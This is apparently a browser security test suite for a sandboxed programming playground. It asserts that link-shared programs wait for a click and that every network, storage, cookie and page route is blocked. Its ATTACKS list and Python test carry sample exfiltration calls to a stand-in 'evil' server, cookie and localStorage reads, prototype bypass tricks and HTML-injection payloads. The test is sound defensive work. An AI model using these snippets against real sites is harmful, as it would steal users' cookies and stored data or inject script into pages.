// A stranger's link can reach nothing: its program runs only after the
// reader's click, in the sandbox (web/src/sandbox/host.js), where every way
// out — fetch, XHR, WebSocket, EventSource, importScripts, a nested worker,
// IndexedDB, the cookie, the page's window — fails with a clear error, no
// request reaches any server (two servers count every request), and nothing
// forged by the program becomes HTML on the page.
import test, { before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { chromium } from 'playwright-core';
import { DIST, waitForRun, toEnd, consoleText } from './helpers.mjs';
import { serve } from '../../scripts/serve.mjs';
import { encodeState } from '../../web/src/model/state.js';
import { LESSONS } from '../../web/src/model/lessons.js';

let site; let evil; let browser;
const siteRequests = []; const evilRequests = [];

before(async () => {
  site = await serve({ root: DIST, port: 0, onRequest: (r) => siteRequests.push(r.path) });
  // The address a program would send the reader's data to (another origin, CORS wide open).
  evil = http.createServer((req, res) => { evilRequests.push(`${req.method} ${req.url}`); res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }); res.end('postMessage("pwned")'); });
  await new Promise((r) => evil.listen(0, '127.0.0.1', r));
  evil.url = `http://127.0.0.1:${evil.address().port}/`;
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run'] });
});
after(async () => { await browser?.close(); await new Promise((r) => site?.server.close(r)); await new Promise((r) => evil?.close(r)); });

const link = (program) => encodeState({ program, semantics: 'pytorch-2', lesson: null });

/** A page of the site whose origin holds a cookie, localStorage and an IndexedDB database. */
async function pageWithSecrets(ctx) {
  const page = await ctx.newPage();
  page.errors = [];
  page.on('pageerror', (e) => page.errors.push(e.message));
  await page.goto(`${site.url}index.html`);
  await page.evaluate(() => new Promise((resolve) => {
    document.cookie = 'secret=cookie-s3cret';
    localStorage.setItem('secret', 'local-s3cret');
    const open = indexedDB.open('site-db', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('s').put('idb-s3cret', 'k');
    open.onsuccess = () => { open.result.close(); resolve(); };
  }));
  return page;
}

const ATTACKS = [
  ['fetch', (u) => `fetch('${u}fetch?' + 1);`],
  ['XMLHttpRequest', (u) => `const x = new XMLHttpRequest(); x.open('GET', '${u}xhr', false); x.send();`],
  ['WebSocket', (u) => `new WebSocket('${u.replace('http', 'ws')}ws');`],
  ['EventSource', (u) => `new EventSource('${u}sse');`],
  ['importScripts', (u) => `importScripts('${u}script.js');`],
  ['nested worker', (u) => `new Worker('${u}worker.js');`],
  ['dynamic import', (u) => `import('${u}module.js');`, { quiet: true }], // import() is syntax: no stub can say why; the policy refuses it
  ['indexedDB', () => `indexedDB.open('site-db');`],
  ['document.cookie', () => `console.log(document.cookie);`],
  ['localStorage', () => `console.log(localStorage.getItem('secret'));`],
  ['parent.postMessage with HTML', () => `parent.postMessage('<img src=x onerror="document.title=1">', '*');`],
  // Around the clear errors, straight to the browser's own functions: the policy still holds.
  ['fetch from the prototype', (u) => `WorkerGlobalScope.prototype.fetch.call(self, '${u}proto-fetch').catch(() => {});`, { quiet: true }],
  ['importScripts from the prototype', (u) => `WorkerGlobalScope.prototype.importScripts.call(self, '${u}proto-script.js');`],
];

test('a linked program waits for the click, then every way out fails with a clear error and reaches no server', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await pageWithSecrets(ctx);
  for (const [name, code, { quiet = false } = {}] of ATTACKS) {
    const program = `// ${name}
const a = hg.tensor(2, { requiresGrad: true, name: 'a' });
a.mul(3);
console.log('the program ran');
{ ${code(evil.url)} }
{ ${code(site.url)} }
console.log('not reached');`;
    const before = siteRequests.length;
    await page.goto('about:blank'); // each link opened as a stranger's link is: a fresh load
    await page.goto(`${site.url}playground.html${link(program)}`);
    const gate = page.getByRole('button', { name: 'Run this program' });
    await gate.waitFor({ timeout: 10000 });
    await page.waitForTimeout(300); // what a program that ran at once would have printed by now
    assert.equal(await consoleText(page), '', `${name}: nothing ran before the click`);
    assert.equal(await page.locator('#step-count').textContent(), '0 / 0', `${name}: no trace before the click`);
    await gate.click();
    await waitForRun(page).catch((e) => { throw new Error(`${name}: ${e.message}`); });
    await toEnd(page);
    const out = await consoleText(page);
    const err = await page.locator('#step-text').textContent();
    assert.match(out, /the program ran/, name);
    assert.doesNotMatch(out, quiet ? /s3cret/ : /not reached|s3cret/, name);
    if (!quiet) assert.match(`${out} ${err}`, /not available: hookgrad runs programs in a sandbox with no network and no storage|blocked|denied|not defined|Cannot|failed to load/i, `${name}: a clear error (${err})`);
    // The site's server saw only the site's own files; the other server saw nothing.
    const extra = siteRequests.slice(before).filter((p) => !/\.(html|js|css|wasm|json|svg|png|ico)(\?|$)|\/$/.test(p) || /^\/(fetch|xhr|ws|sse|script\.js|worker\.js|module\.js|proto-)/.test(p));
    assert.deepEqual(extra, [], `${name}: requests to the site`);
  }
  await page.waitForTimeout(500); // late requests (a blocked fetch's promise) would have arrived by now
  assert.deepEqual(evilRequests, [], 'no request reached the other server');
  assert.equal(await page.title() !== '1', true);
  // The only error the page may see: the sandbox refusing import() (reported from the frame).
  assert.deepEqual(page.errors.filter((e) => !/Failed to fetch dynamically imported module/.test(e)), []);
  await ctx.close();
});

test('what a program posts itself (a forged result with HTML) is shown as text, never as HTML', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await ctx.newPage();
  const program = `const a = hg.tensor(2, { requiresGrad: true, name: 'a' });
a.mul(3).backward();
// Not the worker's own result: the program posts one first, with a trap in every text.
self.postMessage({ type: 'result', id: 1, graph: { tensors: [{ id: 1, name: '<img id=pwn1 src=x>', shape: [], data: 1 }], nodes: 'x' },
  trace: [{ type: 'log', level: 'log', text: '<b id=pwn2>bold</b>' }, null, 7], error: { message: '<i id=pwn3>i</i>', line: 'x' } });`;
  await page.goto(`${site.url}playground.html${link(program)}`);
  await page.getByRole('button', { name: 'Run this program' }).click();
  // The forged result has no steps: its error sentence is what shows.
  await page.waitForFunction(() => /pwn3/.test(document.getElementById('step-text').textContent), null, { timeout: 10000 });
  assert.equal(await page.locator('#pwn1, #pwn2, #pwn3, img').count(), 0);
  assert.match(await consoleText(page), /<b id=pwn2>bold<\/b>/, 'shown as text');
  await ctx.close();
});

test('a built-in lesson in a link runs at once; the sandbox frame is opaque and has no network', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await ctx.newPage();
  const l = LESSONS[0];
  await page.goto(`${site.url}playground.html${encodeState({ program: l.program, semantics: 'pytorch-2', lesson: l.id })}`);
  await waitForRun(page);
  assert.equal(await page.getByRole('button', { name: 'Run this program' }).isVisible(), false);
  const frame = await page.evaluate(() => {
    const f = [...document.querySelectorAll('iframe')].find((x) => x.sandbox.length);
    return f && { sandbox: f.getAttribute('sandbox'), csp: /connect-src 'none'/.test(f.srcdoc) && /img-src 'none'/.test(f.srcdoc) };
  });
  assert.deepEqual(frame, { sandbox: 'allow-scripts', csp: true });
  await ctx.close();
});

test('the embed and a tutorial page run in the one sandbox frame their HTML carries (opaque, no network)', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await ctx.newPage();
  // The build writes the frame into the page (web/vite.config.js); host.js marks the one it took.
  const frames = () => page.evaluate(() => [...document.querySelectorAll('iframe')].filter((x) => x.sandbox.length)
    .map((f) => ({ id: f.id, sandbox: f.getAttribute('sandbox'), taken: f.dataset.taken, csp: /connect-src 'none'/.test(f.srcdoc) && /img-src 'none'/.test(f.srcdoc) })));
  const one = [{ id: 'hg-sandbox', sandbox: 'allow-scripts', taken: '1', csp: true }];
  await page.goto(`${site.url}embed.html#lesson=1`);
  await waitForRun(page);
  assert.ok(await page.locator('#graph .bnode').count() > 0);
  assert.deepEqual(await frames(), one);
  await page.goto(`${site.url}tutorials/hooks-in-depth.html`);
  await page.waitForFunction(() => document.body.dataset.cellsReady === '1', null, { timeout: 30000 });
  assert.deepEqual(await frames(), one);
  await ctx.close();
});

test('a linked Python program: js.fetch, pyodide.http, XHR, WebSocket, importScripts, IndexedDB and the page are out of reach', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await pageWithSecrets(ctx);
  const program = `import js
import pyodide.http

URL = '${evil.url}py'
attempts = [
    ('js.fetch', lambda: js.fetch(URL)),
    ('pyodide.http.open_url', lambda: pyodide.http.open_url(URL)),
    ('js.XMLHttpRequest', lambda: js.XMLHttpRequest.new()),
    ('js.WebSocket', lambda: js.WebSocket.new(URL.replace('http', 'ws'))),
    ('js.importScripts', lambda: js.importScripts(URL)),
    ('js.indexedDB', lambda: js.indexedDB.open('site-db')),
    ('js.document.cookie', lambda: js.document.cookie),
    ('js.parent.postMessage', lambda: js.parent.postMessage('<img src=x onerror=alert(1)>', '*')),
]
for name, attempt in attempts:
    try:
        attempt()
        print(name, 'REACHED')
    except Exception as e:
        print(name, 'blocked:', e)
`;
  const before = evilRequests.length;
  await page.goto(`${site.url}playground.html${encodeState({ program, semantics: 'pytorch-2', lesson: null, lang: 'python' })}`);
  await page.getByRole('button', { name: 'Run this program' }).waitFor({ timeout: 10000 });
  assert.equal(await consoleText(page), '', 'nothing ran before the click');
  await page.getByRole('button', { name: 'Run this program' }).click();
  await page.waitForFunction(() => /ran in|error/.test(document.getElementById('program-status').textContent), null, { timeout: 90000 });
  await toEnd(page);
  const out = await consoleText(page);
  for (const name of ['js.fetch', 'pyodide.http.open_url', 'js.XMLHttpRequest', 'js.WebSocket', 'js.importScripts', 'js.indexedDB', 'js.document.cookie', 'js.parent.postMessage']) {
    assert.match(out, new RegExp(`${name.replace(/\./g, '\\.')} blocked: .*not available: hookgrad runs programs in a sandbox`), `${name}: ${out}`);
  }
  assert.doesNotMatch(out, /REACHED|s3cret/);
  await page.waitForTimeout(500);
  assert.deepEqual(evilRequests.slice(before), [], 'no request reached the other server');
  await ctx.close();
});
